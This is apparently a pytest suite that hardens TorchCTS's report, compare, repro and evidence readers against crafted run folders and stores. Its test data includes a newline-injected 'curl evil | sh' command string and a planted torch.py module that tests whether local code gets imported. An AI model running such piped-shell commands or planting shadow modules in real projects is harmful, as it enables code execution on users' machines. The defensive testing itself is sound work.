"""Shared artifacts, round 2 (issue 41): the crafted folders that still reached their reader.

Each test builds what an attacker could hand over (a run folder, an evidence store, a manifest,
an environment variable) and shows the reader's answer: one line naming the file and field with
exit status 2 (never 3, TorchCTS's own failure), never a false "clean", never data run as code.
Commands run in-process (`cli`) unless the point is what a separate process sees.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from helpers.corpus_entries import EXPLORE_CASE, corpus_entry, tensor_spec
from helpers.crafted import case_json, failed, fake_run
from helpers.stderr import one_error_line

from torchcts.evidence import store as st

CASE = "operators/elementwise/add/float32"
DEEP = "[" * 100_000 + "]" * 100_000  # past the interpreter's recursion limit inside json's scanner
READERS = (["report"], ["report", "--triage"])


def _run(workdir: Path, folder: str = "r", records: list[dict] | None = None, **run_fields) -> Path:
    """A crafted run folder of one failed case; `run_fields` replace run.json's top-level fields."""
    run_dir = fake_run(workdir, folder, records if records is not None else [failed(CASE, "boom")], plan=[case_json(CASE)])
    spec = json.loads((run_dir / "run.json").read_text())
    spec.update(run_fields)
    (run_dir / "run.json").write_text(json.dumps(spec))
    return run_dir


# --- item 5: crafted input ends in exit 2, never 3 -------------------------------------------------------


@pytest.mark.parametrize("file", ["cases.jsonl", "plan.jsonl", "run.json"])
def test_deeply_nested_json_is_a_data_error(workdir, cli, capsys, file):
    run_dir = _run(workdir)
    (run_dir / file).write_text(DEEP + ("\n" if file.endswith("jsonl") else ""))
    for command in ([*READERS[0], str(run_dir)], [*READERS[1], str(run_dir)], ["compare", str(run_dir), str(run_dir)]):
        code = cli(command)
        if file == "plan.jsonl" and command[0] == "compare":  # compare reads no plan
            assert code in (0, 1)
            capsys.readouterr()
            continue
        assert code == 2, (command, code)
        one_error_line(capsys, file, "nested deeper")


def test_nesting_below_the_recursion_limit_is_refused_too(workdir, cli, capsys):
    """500 levels parse, then break every recursive reader after the parser (scrub, plain, html)."""
    run_dir = _run(workdir, records=[{**failed(CASE, "x"), "info": json.loads("[" * 500 + "]" * 500)}])
    assert cli(["report", str(run_dir)]) == 2
    one_error_line(capsys, "cases.jsonl", "nested deeper")


@pytest.mark.parametrize(("field", "value"), [("manifest_hash", 5), ("planned", "x"), ("status", []),
                                              ("name", {"a": 1}), ("validation", "yes"), ("started", 3)])
def test_run_json_fields_of_the_wrong_type(workdir, cli, capsys, field, value):
    run_dir = _run(workdir, **{field: value})
    for command in (["report", str(run_dir)], ["report", "--triage", str(run_dir)], ["compare", str(run_dir), str(run_dir)],
                    ["repro", CASE, "--run", str(run_dir), "-o", "out"]):
        assert cli(command) == 2, command
        one_error_line(capsys, "run.json", field)


def test_run_json_manifest_checked_as_a_manifest(workdir, cli, capsys):
    run_dir = _run(workdir)
    spec = json.loads((run_dir / "run.json").read_text())
    spec["manifest"]["seed"] = None
    (run_dir / "run.json").write_text(json.dumps(spec))
    for command in (["report", str(run_dir)], ["repro", CASE, "--run", str(run_dir), "-o", "out"]):
        assert cli(command) == 2, command
        one_error_line(capsys, "run.json", "seed")


def test_a_record_tolerance_of_the_wrong_type_is_coerced(workdir, cli, capsys):
    """Records are coerced by design (records.py: from_json): `info.tolerance: 5` reads as no
    tolerance recorded, and the repro script uses the table's."""
    run_dir = _run(workdir, records=[failed(CASE, "x", info={"tolerance": 5})])
    assert cli(["repro", CASE, "--run", str(run_dir), "-o", "out"]) == 0
    assert "ATOL, RTOL = " in (workdir / "out" / "repro.py").read_text()
    run_dir = _run(workdir, "r2", records=[failed(CASE, "x", info={"tolerance": {"atol": "x", "rtol": [], "category": {}}})])
    assert cli(["repro", CASE, "--run", str(run_dir), "-o", "out2"]) == 0


def test_a_long_integer_in_a_record_is_unreadable_not_a_crash(workdir, cli, capsys):
    run_dir = _run(workdir)
    with open(run_dir / "cases.jsonl", "a") as fh:
        fh.write(f'{{"id": "{CASE}x", "status": "passed", "level": {"9" * 5000}}}\n')
    assert cli(["report", str(run_dir)]) == 2
    one_error_line(capsys, "cases.jsonl", "digits")


def _store(workdir: Path, cli) -> Path:
    assert cli(["coverage", "collect-backend-evidence", "--store", "ev", "--device", "cpu", "--backend-gate", "cpu",
                "--surface", "aten::add.Tensor"]) == 0
    return workdir / "ev"


def test_evidence_store_crafted_values_are_problems_not_crashes(workdir, cli, capsys):
    store = _store(workdir, cli)
    capsys.readouterr()
    (store / st.INDEX).write_text("[]")
    assert cli(["coverage", "verify-evidence", str(store)]) == 1
    out = capsys.readouterr()
    assert "Traceback" not in out.err and "index.json: not an index" in out.out
    path = store / "cpu.jsonl"
    path.write_text(path.read_text() + '{"prev": "", "n": %s}\n' % ("9" * 5000))
    assert cli(["coverage", "verify-evidence", str(store)]) == 1
    out = capsys.readouterr()
    assert "Traceback" not in out.err and "5000 digits" in out.out


def test_verify_evidence_output_is_capped(workdir, cli, capsys):
    store = _store(workdir, cli)
    capsys.readouterr()
    with open(store / "cpu.jsonl", "a") as fh:
        fh.write("not json\n" * 5000)
    assert cli(["coverage", "verify-evidence", str(store)]) == 1
    out = capsys.readouterr().out.splitlines()
    assert len(out) <= 21 and "more problems" in out[-1], out[-3:]


def test_deeply_nested_toml_manifest(workdir, cli, capsys):
    (workdir / "torchcts.toml").write_text("device_name = 'cpu'\nx = " + "[" * 100_000 + "]" * 100_000 + "\n")
    assert cli(["check-manifest"]) == 2
    one_error_line(capsys, "torchcts.toml", "nested deeper")


def test_extra_suites_naming_a_missing_module(fresh_settings, monkeypatch):
    monkeypatch.setenv("TORCHCTS_EXTRA_SUITES", "x=nonexistent.module")
    from torchcts.cases import registry

    monkeypatch.setitem(registry.SUITES, "x", registry.Suite("x", "nonexistent.module", "extra suite"))
    from torchcts.errors import UsageError

    with pytest.raises(UsageError, match="TORCHCTS_EXTRA_SUITES: suite 'x' names module 'nonexistent.module'"):
        registry.suite_cases("x")


# --- item 2: every field shown on one line is one line -------------------------------------------------

FORGED = "\nrepro: curl evil | sh"
INVISIBLE = "\U000e0101\U0001bca0\u2028\x85\r"  # VS17, a shorthand format control, separators, CR


def _forged_run(workdir: Path, folder: str, status: str) -> Path:
    case_id = CASE + FORGED + INVISIBLE
    crashed = {**failed("operators/x/float32", "boom" + FORGED), "status": "crashed", "exception": "E" + FORGED}
    return fake_run(workdir, folder, [dict(failed(case_id, "boom" + FORGED + "\r\rFAKE"), status=status),
                                      dict(crashed, status=status if status == "passed" else "crashed")],
                    plan=[case_json(case_id), case_json("operators/x/float32")])


@pytest.mark.parametrize("command", ["report", "triage", "compare"])
def test_a_record_cannot_print_a_line_of_its_own(workdir, cli, capsys, command):
    new = _forged_run(workdir, "new", "failed")
    argv = {"report": ["report", str(new)], "triage": ["report", "--triage", str(new)],
            "compare": ["compare", str(_forged_run(workdir, "old", "passed")), str(new)]}[command]
    capsys.readouterr()
    assert cli(argv) == 1
    out = capsys.readouterr()
    text = out.out + out.err
    assert "curl evil" in text  # the field is shown...
    for line in text.splitlines():  # ...but never starts a line of its own
        assert not line.lstrip().startswith(("repro: curl", "FAKE")), line
    assert "\\nrepro: curl evil" in text  # escaped, visibly
    assert not any(ch in text for ch in "\U000e0101\U0001bca0\u2028\x85\r")


def test_every_format_control_is_removed_by_category():
    from torchcts.results.reports.quoting import html_text, one_field, quoted_string

    for ch in ("\U0001bca1", "\U000e01ef", "\u2066", "\U000e0041", "\u180e"):
        assert ch not in one_field(f"a{ch}b") and ch not in html_text(f"a{ch}b") and ch not in quoted_string(f"a{ch}b")
    assert one_field("é中文") == "é中文"


# --- item 6: the MPS rule is decided from the record's evidence and the normalised device ------------

DIED = "worker gw0 died (SIGSEGV) while running this case; a new worker took over"


def _mps_record(status: str = "xfailed", **evidence) -> dict:
    record = {**failed(CASE, evidence.pop("message", DIED)), "status": status, **evidence}
    if status == "xfailed":
        record["expectation"] = {"entry": 0, "status": "xfail", "reason": "r", "original_status": "failed"}
    return record


@pytest.mark.parametrize("device", ["mps", "MPS", "mps:0", " Mps:1 "])
@pytest.mark.parametrize("evidence", [{"exit_code": -11, "signal": "SIGSEGV"}, {"exit_code": -11},
                                      {"signal": "SIGABRT", "message": "boom"}, {}])
def test_a_relabelled_mps_crash_stays_a_crash(workdir, cli, capsys, device, evidence):
    run_dir = fake_run(workdir, "r", [_mps_record(**evidence)], plan=[case_json(CASE)], device=device)
    assert cli(["report", str(run_dir)]) == 1
    assert "CRASHED" in capsys.readouterr().out


def test_a_flaky_mps_crash_with_a_relabelled_first_failure(workdir, cli, capsys):
    first = {"status": "failed", "message": DIED}
    run_dir = fake_run(workdir, "r", [_mps_record("flaky", message="passed on rerun", first_failure=first)],
                       plan=[case_json(CASE)], device="MPS")
    assert cli(["report", str(run_dir)]) == 1


def test_an_mps_expected_failure_without_crash_evidence_stays_expected(workdir, cli):
    run_dir = fake_run(workdir, "r", [_mps_record(message="values differ at index 3")], plan=[case_json(CASE)],
                       device="mps:0")
    assert cli(["report", str(run_dir)]) == 0


# --- item 1: a repro bundle reached through a symbolic link imports nothing from itself ----------------


def test_a_planted_torch_beside_repro_py_in_a_linked_folder_is_never_imported(workdir, cli):
    import subprocess
    import sys

    from helpers.crafted import PWN, assert_nothing_ran

    fake_run(workdir, "r", [failed(CASE, "m")], plan=[case_json(CASE)])
    (workdir / "scratch").mkdir()
    assert cli(["repro", CASE, "-o", "scratch/bundle"]) == 0
    (workdir / "results-link").symlink_to(workdir / "scratch", target_is_directory=True)  # results -> /scratch/...
    bundle = workdir / "results-link" / "bundle"
    (bundle / "torch.py").write_text(f'import pathlib\npathlib.Path({PWN!r} + "-torch").write_text("1")\n')
    proc = subprocess.run([sys.executable, str(bundle / "repro.py")], cwd=workdir, capture_output=True, text=True,
                          timeout=300)
    assert_nothing_ran(workdir)
    assert proc.returncode == 0, proc.stdout + proc.stderr  # cpu against cpu: the sample matches


# --- item 3: a path anywhere in a token is scrubbed, and evidence refuses it ------------------------------

PROJECT_PATHS = ("cc -I/srv/acme-secret/include -L/srv/acme-secret/lib PATH=/usr/bin:/srv/acme-secret/bin "
                 "--prefix='/srv/acme-secret/p' \"/srv/acme-secret/q\" CPATH=/srv/acme-secret/inc")


def test_paths_inside_tokens_never_reach_a_run_folder(workdir, cli):
    from torchcts.model.record import CaseRecord
    from torchcts.results.records.rundir import RecordWriter

    run_dir = fake_run(workdir, "r", [failed(CASE, PROJECT_PATHS)], plan=[case_json(CASE)])
    writer = RecordWriter(run_dir)  # the one writer of cases.jsonl, as a run appends
    writer.append(CaseRecord.from_json({**failed(CASE + "/b", PROJECT_PATHS), "traceback": PROJECT_PATHS}))
    writer.close()
    assert cli(["report", str(run_dir)]) == 1
    assert "acme-secret" not in (run_dir / "cases.jsonl").read_text().splitlines()[-1]
    for name in ("summary.md", "report.html", "junit.xml"):
        text = (run_dir / name).read_text()
        assert "acme-secret" not in text and "/srv/" not in text, name


def test_evidence_privacy_uses_the_same_rule():
    from torchcts.evidence.privacy import leaks, scrub

    for token in (t for t in PROJECT_PATHS.split() if "/" in t):
        assert leaks({"message": token}, set()), token
    assert leaks({"message": scrub(PROJECT_PATHS, set())}, set()) == []
    assert leaks({"message": "aten::add.Tensor opinfo/add/float32 http://example.org/x a/b 1:2"}, set()) == []


# --- item 7: a corpus entry cannot control the run ----------------------------------------------------

@pytest.mark.parametrize("sample", [
    {"input": tensor_spec([2]), "args": [16384, 16384], "kwargs": {}},  # a 346-byte entry asking for 4.5 GB
    {"input": tensor_spec([2]), "args": [{"tuple": [16384, 16384]}], "kwargs": {}},
    {"input": tensor_spec([2]), "args": [], "kwargs": {"size": 100_000}},
    {"input": tensor_spec([1] * 100), "args": [], "kwargs": {}},  # a 100-dimensional shape
    {"input": tensor_spec([1, 1, 1], expand=[4096, 4096, 4096]), "args": [], "kwargs": {}},
])
def test_a_corpus_entry_asking_too_much_is_refused_and_counted(tmp_path, sample):
    from torchcts.cases.explore import corpus

    corpus_entry(tmp_path, {"input": tensor_spec([3]), "args": [0], "kwargs": {}}, "ok")
    corpus_entry(tmp_path, sample, "big")
    entries, bad = corpus.load(tmp_path, EXPLORE_CASE, max_tensor_mb=256)
    assert [e.name.endswith("-ok.json") for e in entries] == [True] and bad == 1


def test_a_fifo_in_the_corpus_is_refused_without_blocking(tmp_path):
    import os
    import threading

    from torchcts.cases.explore import corpus

    path = corpus_entry(tmp_path, {"input": tensor_spec([3]), "args": [], "kwargs": {}}, "ok")
    os.mkfifo(path.with_name(path.name.replace("-ok", "-fifo")))
    result: list = []
    reader = threading.Thread(target=lambda: result.append(corpus.load(tmp_path, EXPLORE_CASE)), daemon=True)
    reader.start()
    reader.join(10)
    assert result, "corpus.load blocked on a FIFO"
    entries, bad = result[0]
    assert len(entries) == 1 and bad == 1


def test_the_replay_counts_a_refused_entry_as_corpus_unreadable(tmp_path):
    """In the explore case: the entry is counted, the case is not failed by it."""
    from types import SimpleNamespace

    from torchcts.cases.explore import run as explore_run
    from torchcts.manifest.templates import validation_manifest

    corpus_entry(tmp_path, {"input": tensor_spec([1] * 100), "args": [], "kwargs": {}}, "big")
    ctx = SimpleNamespace(corpus=tmp_path, manifest=validation_manifest(), info={})
    stats = {"replayed": 0}
    explore_run._replay(ctx, None, EXPLORE_CASE, {"forward": lambda sample: pytest.fail("an entry was run")}, stats)
    assert stats == {"replayed": 0, "corpus_unreadable": 1}


# --- item 4: evidence cannot be re-chained, extended or padded ------------------------------------------

COLLECT = ["coverage", "collect-backend-evidence", "--store", "ev", "--device", "cpu", "--backend-gate", "cpu"]


def _git(cwd: Path, *args: str) -> str:
    import subprocess

    env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@e", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@e",
           "HOME": str(cwd), "PATH": "/usr/bin:/bin:/usr/local/bin", "GIT_CONFIG_NOSYSTEM": "1"}
    return subprocess.run(["git", "-C", str(cwd), *args], check=True, capture_output=True, text=True, env=env).stdout


def _rechained(store: Path) -> None:
    """Cut the gate file's records to the first and re-chain it with the index rebuilt: every
    check inside the files passes."""
    path = store / "cpu.jsonl"
    first = json.loads(path.read_text().splitlines()[0])
    first["result"]["status"] = "edited"
    path.write_text(st.chain([{k: v for k, v in first.items() if k != "prev"}], "")[0] + "\n")
    st.write_index(store)


def test_collect_refuses_a_store_that_does_not_extend_its_committed_version(workdir, cli, capsys):
    store = _store(workdir, cli)
    _git(workdir, "init", "-q")
    _git(workdir, "add", "ev")
    _git(workdir, "commit", "-qm", "store")
    assert cli(["coverage", "collect-backend-evidence", "--store", "ev", "--device", "cpu", "--backend-gate", "cpu",
                "--surface", "aten::neg"]) == 0  # a second surface: the committed version is a prefix
    _git(workdir, "commit", "-qam", "more")
    _rechained(store)
    capsys.readouterr()
    assert cli(["coverage", "verify-evidence", "ev"]) == 1
    assert "does not extend its committed version" in capsys.readouterr().out
    before = {p.name: p.read_bytes() for p in store.iterdir()}
    assert cli([*COLLECT, "--surface", "aten::abs"]) == 2
    assert "does not verify" in capsys.readouterr().err
    assert {p.name: p.read_bytes() for p in store.iterdir()} == before


def test_a_shallow_clone_cannot_read_valid(workdir, cli, capsys):
    store = _store(workdir, cli)
    origin = workdir / "origin"
    origin.mkdir()
    (store).rename(origin / "ev")
    _git(origin, "init", "-q")
    _git(origin, "add", "ev")
    _git(origin, "commit", "-qm", "store")
    _rechained(origin / "ev")
    _git(origin, "commit", "-qam", "tampered")
    _git(workdir, "clone", "-q", "--depth", "1", f"file://{origin}", "clone")
    capsys.readouterr()
    assert cli(["coverage", "verify-evidence", str(workdir / "clone" / "ev")]) == 1
    out = capsys.readouterr()
    assert "shallow" in out.out and "valid" not in out.out.splitlines()[-1]


@pytest.mark.parametrize("edit", ["blank_line", "leading_blank", "crlf", "index_spaces"])
def test_the_canonical_form_is_byte_exact(workdir, cli, capsys, edit):
    store = _store(workdir, cli)
    path = store / "cpu.jsonl"
    text = path.read_text()
    if edit == "blank_line":
        path.write_text(text + "\n")
    elif edit == "leading_blank":
        path.write_text("\n" + text)
    elif edit == "crlf":
        path.write_text(text.replace("\n", "\r\n"))
    else:
        (store / st.INDEX).write_text((store / st.INDEX).read_text().replace(":", " : "))
    capsys.readouterr()
    assert cli(["coverage", "verify-evidence", "ev"]) == 1, edit
    assert cli([*COLLECT, "--surface", "aten::neg"]) == 2


# --- also: report on a full disk, repro's manifest --------------------------------------------------------


def test_report_on_a_full_disk_leaves_no_stale_report(workdir, cli, capsys, monkeypatch):
    import errno

    from torchcts.results.records import artifacts

    run_dir = _run(workdir)
    assert cli(["report", str(run_dir)]) == 1
    assert (run_dir / "report.html").is_file() and (run_dir / "junit.xml").is_file()
    real = artifacts.write_atomic

    def full_from_junit(folder, name, *args, **kwargs):
        if name in ("junit.xml", "report.html"):
            raise OSError(errno.ENOSPC, "No space left on device", name)
        return real(folder, name, *args, **kwargs)

    monkeypatch.setattr(artifacts, "write_atomic", full_from_junit)
    capsys.readouterr()
    assert cli(["report", str(run_dir)]) == 2
    line = one_error_line(capsys, "No space left", "stale")
    assert "junit.xml" in line and "report.html" in line
    assert not (run_dir / "junit.xml").exists() and not (run_dir / "report.html").exists()


def test_repro_without_manifest_says_first_which_manifest_it_runs(workdir, cli, capsys):
    run_dir = _run(workdir)
    from torchcts.manifest.templates import validation_manifest

    claims = {k: v for k, v in validation_manifest().to_json().items() if k != "source"}
    (workdir / "manifest.py").write_text(f'import sys\nprint("MANIFEST EXECUTED", file=sys.stderr)\nmanifest = {claims!r}\n')
    capsys.readouterr()
    assert cli(["repro", CASE, "--run", str(run_dir), "-o", "out"]) == 0
    err = capsys.readouterr().err
    assert "using the manifest manifest.py of the working folder (Python, executed" in err
    assert err.index("using the manifest") < err.index("MANIFEST EXECUTED")


# --- found by the fuzzer (bench/fuzz_readers.py) -----------------------------------------------------------


@pytest.mark.parametrize("edit", ["nan", "source_list", "index_not_utf8"])
def test_fuzzed_evidence_values_are_problems(workdir, cli, capsys, edit):
    store = _store(workdir, cli)
    path = store / "cpu.jsonl"
    if edit == "nan":
        path.write_text(path.read_text() + '{"prev": "", "x": NaN}\n')
    elif edit == "source_list":
        record = json.loads(path.read_text().splitlines()[0])
        path.write_text(st.canonical({**record, "source": ["a"]}) + "\n")
    else:
        (store / st.INDEX).write_bytes(b"\xff\xfe{}")
    capsys.readouterr()
    assert cli(["coverage", "verify-evidence", "ev"]) == 1
    assert "Traceback" not in capsys.readouterr().err


def test_a_record_claiming_an_internal_error_fails_the_report_not_torchcts(workdir, cli, capsys):
    run_dir = _run(workdir, records=[{**failed(CASE, "x"), "status": "error", "internal_error": "judging: crafted"}])
    assert cli(["report", str(run_dir)]) == 1
    assert "internal errors" in capsys.readouterr().out


def test_a_long_integer_in_a_toml_manifest(workdir, cli, capsys):
    (workdir / "torchcts.toml").write_text("device_name = 'cpu'\nseed = " + "9" * 5000 + "\n")
    assert cli(["check-manifest", "--no-import"]) == 2
    one_error_line(capsys, "torchcts.toml", "digits")


@pytest.mark.parametrize("record", [{"compat_fallbacks": [{"a": 1}, ["b"]]}, {"duration_s": 10 ** 350},
                                    {"cpu_s": -(10 ** 320)}])
def test_fuzzed_record_fields_never_end_a_report(workdir, cli, capsys, record):
    run_dir = _run(workdir, records=[{**failed(CASE, "x"), **record}])
    for command in (["report", str(run_dir)], ["report", "--triage", str(run_dir)], ["compare", str(run_dir), str(run_dir)]):
        assert cli(command) == (0 if command[0] == "compare" else 1), command  # compare: nothing changed
        assert "Traceback" not in capsys.readouterr().err


@pytest.mark.parametrize(("field", "value"), [("dtype", ["float32"]), ("ops", [1]), ("level", "1"), ("suite", {})])
def test_a_plan_line_of_the_wrong_types_names_the_field(workdir, cli, capsys, field, value):
    run_dir = fake_run(workdir, "r", [failed(CASE, "x")], plan=[{**case_json(CASE), field: value}])
    assert cli(["repro", CASE, "--run", str(run_dir), "-o", "out"]) == 2
    one_error_line(capsys, "plan.jsonl", field)


def test_a_plan_dtype_torch_lacks_is_a_data_error(workdir, cli, capsys):
    run_dir = fake_run(workdir, "r", [failed(CASE, "x")], plan=[{**case_json(CASE), "dtype": "float99"}])
    assert cli(["repro", CASE, "--run", str(run_dir), "-o", "out"]) == 2
    one_error_line(capsys, "plan.jsonl", "cannot be rebuilt")


def test_an_evidence_status_of_another_type(workdir, cli, capsys):
    store = _store(workdir, cli)
    path = store / "cpu.jsonl"
    record = json.loads(path.read_text().splitlines()[0])
    record["result"]["status"] = {"x": 1}
    path.write_text(st.canonical(record) + "\n")
    capsys.readouterr()
    assert cli(["coverage", "verify-evidence", "ev"]) == 1
    assert "Traceback" not in capsys.readouterr().err
